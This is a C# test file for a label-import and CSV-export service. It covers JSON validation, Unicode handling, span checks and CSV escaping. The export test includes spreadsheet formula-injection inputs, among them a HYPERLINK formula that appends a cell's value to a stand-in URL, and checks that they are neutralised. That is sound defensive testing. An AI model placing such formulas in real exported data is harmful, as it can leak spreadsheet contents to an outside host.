using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using TriageConsole.Features.Ingest;
using TriageConsole.Features.Labels;
using TriageConsole.Tests.Ingest;
using TriageConsole.Tests.Shared;

namespace TriageConsole.Tests.Labels;

/// <summary>The valid contents of a label line, and that one bad line does not affect the others.</summary>
public sealed class LabelLineTests
{
    private static readonly string Long = new('x', 301);

    public static TheoryData<string, string> Bad =>
        new()
        {
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"no","value":"yes"}""", "duplicate_key" },
            { """{"trace_id":"a","trace_id":"b","labeler_id":"r","rubric_key":"q","value":"no"}""", "duplicate_key" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"no","valu\u0065":"yes"}""", "duplicate_key" },
            {
                """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"no","labeler_attributes":{"kind":"a","kind":"llm_judge"}}""",
                "duplicate_key"
            },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":[{"start":0,"start":1,"end":2}]}""", "duplicate_key" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":NaN}""", "invalid_json" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":1e400,}""", "invalid_json" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q"} {}""", "invalid_json" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"half \ud83d"}""", "invalid_utf8" },
            { """{"trace_id":"a","labeler_id":"r\udc4d","rubric_key":"q","value":"no"}""", "invalid_utf8" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"no","comment":"\ud83d half"}""", "invalid_utf8" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"no","\ud83d":1}""", "invalid_utf8" },
            { """["a"]""", "not_an_object" },
            { """{"trace_id":{"x":1},"labeler_id":"r","rubric_key":"q","value":"no"}""", "bad_type" },
            { """{"trace_id":null,"labeler_id":"r","rubric_key":"q","value":"no"}""", "missing_trace_id" },
            { """{"trace_id":"a","labeler_id":"  ","rubric_key":"q","value":"no"}""", "missing_labeler_id" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"","value":"no"}""", "missing_rubric_key" },
            { """{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":null}""", "missing_value" },
            { $$"""{"trace_id":"{{Long}}","labeler_id":"r","rubric_key":"q","value":"no"}""", "too_long" },
            { $$"""{"trace_id":"a","labeler_id":"{{Long}}","rubric_key":"q","value":"no"}""", "too_long" },
            { $$"""{"trace_id":"a","labeler_id":"r","rubric_key":"{{Long[..101]}}","value":"no"}""", "too_long" },
            { $$"""{"trace_id":"a","labeler_id":"r","rubric_key":"q","value":"{{new string('v', 100_001)}}"}""", "too_long" },
            { """{"trace_id":"i02-\u0000x","labeler_id":"r","rubric_key":"q","value":"no"}""", "unknown_trace" },
        };

    [Theory]
    [MemberData(nameof(Bad))]
    public async Task Import_OfABadLineBetweenGoodOnes_RefusesOnlyTheBadLine(string line, string reason)
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync(IngestFixture.Event("a"));
        var result = await ImportAsync(f, Line("a", "first", "\"yes\""), line, Line("a", "last", "\"no\""));
        Assert.Equal((2, reason), (result.Accepted, Assert.Single(result.Refused).Reason));
        Assert.Equal(2, result.Refused[0].Line);
        Assert.Equal(["first", "last"], await f.QueryAsync(db => db.Labels.OrderBy(l => l.Id).Select(l => l.Labeler!.Key).ToListAsync()));
    }

    [Fact]
    public async Task Import_OfNulCharacters_StoresAReplacementInEveryField()
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync(IngestFixture.Event("a"), IngestFixture.Event("i02-\\u00003"));
        var result = await ImportAsync(
            f,
            """{"trace_id":"i02-\u00003","labeler_id":"be\u0000rt","rubric_key":"res\u0000olved","value":"y\u0000es","com"""
                + """ment":"c\u0000d","task_type":"case\u0000.i02"}""",
            """{"trace_id":"a","labeler_id":"carl","rubric_key":"q","value":"raw\u0000","value_normalized":"n\u0000"}"""
        );
        Assert.Equal((2, 0), (result.Accepted, result.RefusedCount));
        var labels = await f.QueryAsync(db =>
            db.Labels.Include(l => l.Labeler).Include(l => l.Answers).OrderBy(l => l.Labeler!.Key).ToListAsync()
        );
        Assert.Equal(("be\uFFFDrt", "c\uFFFDd"), (labels[0].Labeler!.Key, labels[0].Comment));
        Assert.Equal(("res_olved", "y\uFFFDes"), (labels[0].Answers[0].Criterion, labels[0].Answers[0].Value));
        Assert.Equal(("n\uFFFD", "[raw\uFFFD]"), (labels[1].Answers[0].Value, labels[1].Comment));
    }

    /// <summary>Two different questions keep different keys in any script. Two Unicode spellings of one word have the same key.</summary>
    [Fact]
    public async Task Import_OfKeysInAnyScript_KeepsThemDistinct()
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync(IngestFixture.Event("a"));
        string[] keys = ["完整性", "正确性", "हिंदी", "ясность", "wyjaśnienie", "wyjas\u0301nienie", "is it good?", "𝒜b", "👍"];
        var result = await ImportAsync(
            f,
            [.. keys.Select((k, n) => $$"""{"trace_id":"a","labeler_id":"r","rubric_key":"{{k}}","value":"v{{n}}"}""")]
        );
        Assert.Equal(0, result.RefusedCount);
        var stored = await f.QueryAsync(db =>
            db.LabelAnswers.Where(x => db.Labels.Any(l => l.Id == x.LabelId && l.IsCurrent)).Select(x => x.Criterion).ToListAsync()
        );
        Assert.Equal(
            new[] { "完整性", "正确性", "हिंदी", "ясность", "wyjaśnienie", "is_it_good_", "𝒜b", "__" }.Order(StringComparer.Ordinal),
            stored.Order(StringComparer.Ordinal)
        );
    }

    [Fact]
    public async Task Import_OfNumbersAndTrailingSpacesAsIds_IdentifiesTheSame()
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync("""{"trace_id":5723,"task_type":"case.i10","task_id":5723,"model_version":"m-1"}""");
        var result = await ImportAsync(
            f,
            """{"trace_id":5723,"labeler_id":1,"rubric_key":"verdict","value":0}""",
            """{"trace_id":"5723","labeler_id":"1","rubric_key":"verdict","value":0}""",
            """{"trace_id":"5723 ","labeler_id":"1\t","rubric_key":"verdict ","value":0}""",
            """{"trace_id":5723,"labeler_id":2,"rubric_key":7,"value":1}"""
        );
        Assert.Equal((2, 2, 0), (result.Accepted, result.Duplicates, result.RefusedCount));
        Assert.Equal(["1", "2"], await f.QueryAsync(db => db.Labelers.OrderBy(l => l.Key).Select(l => l.Key).ToListAsync()));
        Assert.Equal(
            ["7", "verdict"],
            await f.QueryAsync(db => db.LabelAnswers.Select(a => a.Criterion).Distinct().OrderBy(c => c).ToListAsync())
        );
    }

    [Theory]
    [InlineData("🎯Please mark the target here.", 18, 24, true)]
    [InlineData("🎯Please mark the target here.", 0, 2, true)]
    [InlineData("🎯Please mark the target here.", 0, 1, false)]
    [InlineData("🎯Please mark the target here.", 1, 6, false)]
    [InlineData("👩🏽‍🚒 crews check the hydrants", 24, 32, true)]
    [InlineData("👩🏽‍🚒 crews check the hydrants", 3, 8, false)]
    [InlineData("Line one\\r\\nLine two\\r\\nthe target here", 24, 30, true)]
    [InlineData("short", 2, 6, false)]
    [InlineData("short", 3, 3, false)]
    [InlineData("short", -1, 3, false)]
    public async Task Import_OfSpans_CountsUtf16AndNeverCutsACharacter(string output, int start, int end, bool taken)
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync($$"""{"trace_id":"a","task_type":"s","task_id":"k","model_version":"v","output":"{{output}}"}""");
        var spans = $$"""[{"start":{{start}},"end":{{end}},"type":"bad"}]""";
        var result = await ImportAsync(
            f,
            Line("a", "first", "\"yes\""),
            Line("a", "list", spans, "marks"),
            Line("a", "text", JsonSerializer.Serialize(spans), "marks")
        );
        Assert.Equal((taken ? 3 : 1, taken ? 0 : 2), (result.Accepted, result.RefusedCount));
        Assert.All(result.Refused, r => Assert.Equal("bad_span", r.Reason));
    }

    [Fact]
    public async Task Import_OfSpansOfTheLastTurn_ChecksThemAgainstItsText()
    {
        await using var f = await IngestFixture.CreateAsync();
        await f.SendAsync(
            """{"trace_id":"a","task_type":"s","task_id":"k","model_version":"v","messages":[{"role":"user","content":"h"""
                + """i"},{"role":"assistant","content":"👍 done"}]}"""
        );
        var result = await ImportAsync(
            f,
            Line("a", "r1", """[{"start":3,"end":7,"type":"bad"}]""", "marks"),
            Line("a", "r2", """[{"start":1,"end":7,"type":"bad"}]""", "marks")
        );
        Assert.Equal((1, 2), (result.Accepted, (int)Assert.Single(result.Refused).Line));
    }

    [Fact]
    public async Task Import_OfKeysOverTheMaximum_RefusesTheRestByName()
    {
        await using var f = await IngestFixture.CreateAsync(configure: services =>
            services.Configure<IngestOptions>(o => o.MaxImportedRubrics = 3)
        );
        await f.SendAsync(IngestFixture.Event("a"), """{"trace_id":"b","task_type":"other","task_id":"k","model_version":"v"}""");
        var first = await ImportAsync(f, [.. Enumerable.Range(0, 5).Select(n => Line("a", "r", "\"x\"", $"key{n}"))]);
        Assert.Equal((3, 2), (first.Accepted, first.RefusedCount));
        Assert.Equal(["key3", "key4"], first.Refused.Select(r => r.Detail.Split('\'')[1]));
        Assert.All(first.Refused, r => Assert.Equal("too_many_rubric_keys", r.Reason));
        // Keys that the tenant already has can be used in its other workflows, and accept further answers.
        var second = await ImportAsync(f, Line("b", "r", "\"x\"", "key1"), Line("b", "r", "\"x\"", "new"), Line("a", "r", "\"y\"", "key0"));
        Assert.Equal((1, 1, 1), (second.Accepted, second.Revised, second.RefusedCount));
    }

    [Fact]
    public async Task Export_AsCsv_EscapesFormulasAndChangesNothingElse()
    {
        (string Sent, string Shown)[] comments =
        [
            ("=1+1", "'=1+1"),
            ("+12 items", "'+12 items"),
            ("-2 stars", "'-2 stars"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\n=1+1", "'\n=1+1"),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠x", "'＠x"),
            ("'=1+1", "'=1+1"),
            (" =1+1", " =1+1"),
            ("-1.5", "-1.5"),
            ("1e5", "1e5"),
            ("a,b;c", "a,b;c"),
            ("she said \"no\"", "she said \"no\""),
            ("line one\nline two", "line one\nline two"),
            ("ends with space ", "ends with space "),
            ("多语言 Ünïcödé 🚀", "多语言 Ünïcödé 🚀"),
            ("=HYPERLINK(\"https://example.invalid/?\"&A1)", "'=HYPERLINK(\"https://example.invalid/?\"&A1)"),
            ("|cmd", "|cmd"),
            ("%0A=1", "%0A=1"),
        ];
        await using var app = await TestApp.StartAsync();
        var client = app.CreateApiClient(await app.CreateApiKeyAsync("acme", "ingest", "label", "read"));
        using var events = await client.PostAsync(
            new Uri("/api/v1/events", UriKind.Relative),
            new StringContent(string.Join('\n', comments.Select((_, n) => IngestFixture.Event(n == 0 ? "=trace" : $"t{n}"))))
        );
        var lines = comments.Select(
            (c, n) =>
                JsonSerializer.Serialize(
                    new
                    {
                        trace_id = n == 0 ? "=trace" : $"t{n}",
                        labeler_id = "=ann",
                        rubric_key = "resolved",
                        value = "no",
                        comment = c.Sent,
                    }
                )
        );
        using var sent = await client.PostAsync(new Uri("/api/v1/labels", UriKind.Relative), new StringContent(string.Join('\n', lines)));
        Assert.Equal(comments.Length, (await sent.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("accepted").GetInt32());

        var csv = await client.GetByteArrayAsync(new Uri("/api/v1/labels?format=csv", UriKind.Relative));
        var rows = ReadCsv(Encoding.UTF8.GetString(csv));
        Assert.Equal(comments.Select(c => c.Shown), rows.Skip(1).Select(r => r[9]));
        Assert.Equal(("'=trace", "'=ann"), (rows[1][0], rows[1][2]));
        var marked = await client.GetByteArrayAsync(new Uri("/api/v1/labels?format=csv&bom=true", UriKind.Relative));
        Assert.Equal([0xEF, 0xBB, 0xBF, .. csv], marked);
        using var wrong = await client.GetAsync(new Uri("/api/v1/labels?format=csv&bom=maybe", UriKind.Relative));
        Assert.Equal(HttpStatusCode.BadRequest, wrong.StatusCode);
    }

    private static string Line(string trace, string labeler, string value, string key = "quality") =>
        $$"""{"trace_id":"{{trace}}","labeler_id":"{{labeler}}","rubric_key":"{{key}}","value":{{value}}}""";

    private static async Task<LabelImportResult> ImportAsync(IngestFixture f, params string[] lines)
    {
        using var stream = new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', lines)));
        return await f.Get<LabelImportService>().ImportAsync(null, stream);
    }

    /// <summary>Parses the fields by RFC 4180.</summary>
    private static List<List<string>> ReadCsv(string text)
    {
        var (rows, row, field, quoted) = (new List<List<string>>(), new List<string>(), new StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            if (quoted && text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"')
                field.Append(text[++i]);
            else if (text[i] == '"')
                quoted = !quoted;
            else if (quoted)
                field.Append(text[i]);
            else if (text[i] is ',' or '\r')
            {
                row.Add(field.ToString());
                field.Clear();
                if (text[i] == ',')
                    continue;
                rows.Add(row);
                row = [];
                i++;
            }
            else
                field.Append(text[i]);
        }

        return rows;
    }
}
